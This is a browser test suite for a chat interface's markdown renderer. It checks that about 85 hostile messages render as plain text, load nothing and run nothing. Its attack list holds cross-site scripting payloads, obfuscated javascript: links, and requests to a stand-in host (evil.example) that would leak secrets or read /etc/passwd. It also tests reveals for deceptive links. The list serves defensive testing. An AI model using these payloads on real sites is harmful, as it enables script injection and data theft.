/**
 * Hostile messages: whatever they hold, whole or one character at a time, only known elements with known attributes appear, only
 * safe targets are linked, nothing is fetched, no policy is violated and nothing runs.
 */
import { expect } from '@open-wc/testing';
import { safeImage, safeLink } from '../../src/ui/markdown/safe-link.js';
import { drawn, show, stream, withoutFrames } from './markdown-support.js';

const ELEMENTS = new Set(
  'p h3 h4 h5 h6 ul ol li blockquote pre code hr br em strong del a button span div table thead tbody tr th td img'.split(' '),
);
const ATTRIBUTES = new Set(
  'dir class href target rel referrerpolicy tabindex role aria-label type scope start alt src decoding'.split(' '),
);

const ATTACKS: readonly string[] = [
  '<script>attack()</script>',
  '<img src=x onerror=attack()>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=attack()>',
  '<svg><script>attack()</script></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=attack()>',
  '<iframe src="javascript:attack()"></iframe>',
  '<iframe srcdoc="<script>attack()</script>"></iframe>',
  '<a href="javascript:attack()">x</a>',
  '<body onload=attack()>',
  '<style>@import "https://evil.example/a.css"</style>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<form action="https://evil.example"><input name=a></form>',
  '<details open ontoggle=attack()>x</details>',
  '<video src=x onerror=attack()></video>',
  '<template><img src=x onerror=attack()></template>',
  '<x-element onclick=attack()>x</x-element>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '<!--<img src="--><img src=x onerror=attack()>">',
  '<![CDATA[<img src=x onerror=attack()>]]>',
  '<?xml version="1.0"?><script>attack()</script>',
  '<p style="background:url(https://evil.example)">x</p>',
  '[x](javascript:attack())',
  '[x](JaVaScRiPt:attack())',
  '[x](javascript&#58;attack())',
  '[x](java&#115;cript:attack())',
  '[x](java&Tab;script:attack())',
  '[x](&#x6A;avascript:attack())',
  '[x](<java\tscript:attack()>)',
  '[x](\u0001javascript:attack())',
  '[x](%6Aavascript:attack())',
  '[x](vbscript:attack())',
  '[x](data:text/html,<script>attack()</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](blob:https://evil.example/1)',
  '[x](file:///etc/passwd)',
  '[x](filesystem:https://evil.example/temporary/x)',
  '[x](view-source:https://evil.example)',
  '[x](about:blank)',
  '[x](ftp://evil.example/x)',
  '[x](intent://evil#Intent;scheme=https;end)',
  '[x](//evil.example/x)',
  '[x](/relative)',
  '[x](#fragment)',
  '[x](?query)',
  '[x](https:evil.example)',
  '[x](https:\\\\evil.example)',
  '[x](https://good.example@evil.example)',
  '[x](https://good.example:pw@evil.example/)',
  '[x](https://evil.example/\u202Emoc.doog)',
  '[\u202Emoc.doog](https://evil.example)',
  '[x](https://evil.example/%E2%80%AEmoc)',
  '[x]: javascript:attack()\n\n[x]',
  '[x][y]\n\n[y]: <javascript:attack()>',
  '<javascript:attack()>',
  '<data:text/html,x>',
  '![x](javascript:attack())',
  '![x](https://evil.example/?secret=1)',
  '![x][y]\n\n[y]: https://evil.example/?secret=1',
  '[![x](https://evil.example/a.png)](javascript:attack())',
  '[x](https://a.example "onmouseover=attack()")',
  '[x](https://a.example/"onmouseover="attack())',
  '![" onerror="attack()](https://evil.example/a.png)',
  '```"><script>attack()</script>\ncode\n```',
  '``` js" onclick="attack()\ncode\n```',
  '`<img src=x onerror=attack()>`',
  '| <img src=x onerror=attack()> |\n|---|\n| <script>attack()</script> |',
  '# <img src=x onerror=attack()>',
  '- <img src=x onerror=attack()>',
  '> <script>attack()</script>',
  '&lt;script&gt;attack()&lt;/script&gt;',
  '&#60;img src=x onerror=attack()&#62;',
  '\\<img src=x onerror=attack()>',
  '${attack()} {{attack()}} <?lit$1$?>',
  '<!--?lit$0$--><?lit$0$>',
  'https://evil.example/"><script>attack()</script>',
  'www.evil.example/<script>attack()</script>',
  'a@b.example"onclick=attack()',
  '__proto__ [__proto__] [constructor][__proto__]\n\n[__proto__]: javascript:attack()',
  '[x](mailto:a@b.example?body=<script>attack()</script>)',
  '[x](tel:+1<script>attack()</script>)',
  '\0<scr\0ipt>attack()</scr\0ipt>',
  '<scr<script>ipt>attack()</scr</script>ipt>',
];

const LINK = /^(?:https?:\/\/[^/@]+(?:[/?#].*)?|mailto:.*|tel:.*)$/;

const check = (root: ParentNode, source: string): void => {
  for (const element of root.querySelectorAll('*')) {
    expect(ELEMENTS.has(element.localName), `<${element.localName}> from ${source}`).to.equal(true);
    for (const { name } of element.attributes) expect(ATTRIBUTES.has(name), `${name} from ${source}`).to.equal(true);
  }
  for (const anchor of root.querySelectorAll('a')) {
    expect(anchor.getAttribute('href'), source).to.match(LINK);
    expect(anchor.rel, source).to.equal('noopener noreferrer nofollow ugc');
    expect(anchor.target, source).to.equal('_blank');
    expect(anchor.referrerPolicy, source).to.equal('no-referrer');
  }
  expect(root.querySelector('img'), source).to.equal(null);
};

describe('rich text from a hostile sender', () => {
  let attacked = 0;
  const violations: string[] = [];
  const note = (event: SecurityPolicyViolationEvent): void => void violations.push(event.violatedDirective);

  before(() => {
    Object.assign(globalThis, { attack: () => (attacked += 1) });
    document.addEventListener('securitypolicyviolation', note);
  });
  after(() => {
    document.removeEventListener('securitypolicyviolation', note);
    Reflect.deleteProperty(globalThis, 'attack');
  });

  it('has enough attacks to mean something', () => {
    expect(new Set(ATTACKS).size).to.be.at.least(60);
  });

  it('shows them as text, fetches nothing and runs nothing', async () => {
    performance.clearResourceTimings();
    for (const attack of ATTACKS) {
      for (const source of [attack, `a ${attack} b`, `**${attack}**`, `- x\n\n  > ${attack.replaceAll('\n', '\n  > ')}`]) {
        const element = await show(source);
        check(element.shadowRoot as ShadowRoot, source);
        element.remove();
      }
    }
    expect(performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => !name.startsWith(location.origin))).to.deep.equal([]);
    expect(attacked).to.equal(0);
    expect(violations).to.deep.equal([]);
  }).timeout(30_000);

  it('shows them as text at every step of a stream, and ends with the same as the whole', async () => {
    await withoutFrames(async () => {
      for (const attack of ATTACKS) {
        const element = await show('', true);
        await stream(element, [...attack], () => check(element.shadowRoot as ShadowRoot, attack));
        expect(drawn(element), attack).to.equal(drawn(await show(attack)));
        element.remove();
      }
    });
    expect(attacked).to.equal(0);
    expect(violations).to.deep.equal([]);
  }).timeout(30_000);

  it('shows markup letter by letter as it was written', async () => {
    const { shadowRoot } = await show('<img src=x onerror=attack()>');
    expect(shadowRoot?.textContent?.trim()).to.equal('<img src=x onerror=attack()>');
  });

  it('links nothing that it refuses, and keeps its text', async () => {
    const { shadowRoot } = await show('[label](javascript:attack())');
    expect(shadowRoot?.querySelector('a')).to.equal(null);
    expect(shadowRoot?.textContent?.trim()).to.equal('label');
  });
});

describe('safe targets', () => {
  const reveal = (text: string, href: string): string | undefined => safeLink(href, text)?.reveal;

  it('says where a link goes when its text says something else', () => {
    expect(reveal('bank.example', 'https://evil.example/')).to.equal('evil.example');
    expect(reveal('https://bank.example/login', 'https://evil.example/')).to.equal('evil.example');
    expect(reveal('Go to BANK。example now', 'https://evil.example/')).to.equal('evil.example');
    expect(reveal('bank.example.evil.test', 'https://evil.test/')).to.equal('evil.test');
    expect(reveal('help@bank.example', 'mailto:thief@evil.example')).to.equal('thief@evil.example');
    expect(reveal('+1 800 555 0100', 'tel:+19005550199')).to.equal('+19005550199');
    expect(reveal('аpple.com', 'https://аpple.com/')).to.equal('xn--pple-43d.com');
    expect(reveal('bank.example', 'https://evil.example:8443/')).to.equal('evil.example:8443');
  });

  it('adds nothing where the text is honest', () => {
    expect(reveal('our docs', 'https://docs.example/')).to.equal(undefined);
    expect(reveal('docs.example', 'https://www.docs.example/x')).to.equal(undefined);
    expect(reveal('example.com', 'https://docs.example.com/')).to.equal(undefined);
    expect(reveal('https://docs.example/a.b.html', 'https://docs.example/a.b.html')).to.equal(undefined);
    expect(reveal('a@b.example', 'mailto:a@b.example')).to.equal(undefined);
    expect(reveal('0800 555 0100', 'tel:+448005550100')).to.equal(undefined);
    expect(reveal('version 2.10.3', 'https://docs.example/')).to.equal(undefined);
  });

  it('offers images from the web alone', () => {
    expect(safeImage('https://images.example/a.png')?.host).to.equal('images.example');
    for (const href of ['data:image/png;base64,AA', 'blob:https://a/1', 'a.png', '//a/b.png', 'mailto:a@b.example', 'https://u@a/b']) {
      expect(safeImage(href), href).to.equal(undefined);
    }
  });

  it('loads an image on a click only, without a referrer', async () => {
    const address = new URL('/pixel.png', location.href).href;
    const element = await show(`![A cat](${address})`);
    const button = element.shadowRoot?.querySelector<HTMLElement>('button.image');
    expect(button?.innerText).to.contain('A cat').and.to.contain(`Load image from ${location.host}`);
    expect(performance.getEntriesByName(address)).to.have.lengthOf(0);
    button?.click();
    await element.updateComplete;
    const image = element.shadowRoot?.querySelector('img');
    expect(image?.src).to.equal(address);
    expect(image?.alt).to.equal('A cat');
    expect(image?.referrerPolicy).to.equal('no-referrer');
    expect(element.shadowRoot?.activeElement).to.equal(image);
  });

  it('puts no button into a link', async () => {
    const { shadowRoot } = await show('[![Badge](https://a.example/b.svg)](https://c.example)');
    expect(shadowRoot?.querySelector('a')?.textContent).to.equal('Badge');
    expect(shadowRoot?.querySelector('button')).to.equal(null);
  });
});
